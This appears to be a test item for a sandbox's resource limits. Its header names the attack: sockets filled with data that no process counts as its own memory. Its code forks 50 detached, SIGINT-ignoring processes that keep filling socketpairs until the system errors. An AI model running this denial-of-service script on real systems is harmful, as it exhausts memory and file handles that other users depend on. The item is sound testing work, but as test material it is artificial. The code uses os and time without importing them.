# ---
# attack: Sockets are filled whose contents no process shows as its own memory.
# fails: {stem: everything}
# reason: memory|files open|sessions
# ---

# %% grade_id="stem"
import signal
import socket

for _ in range(50):
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        kept = []
        try:
            while True:
                ours, theirs = socket.socketpair()
                kept += [ours, theirs]
                ours.setblocking(False)
                try:
                    while True:
                        ours.send(b"x" * (1 << 15))
                except BlockingIOError:
                    pass
        except OSError:
            time.sleep(1000)
time.sleep(1000)
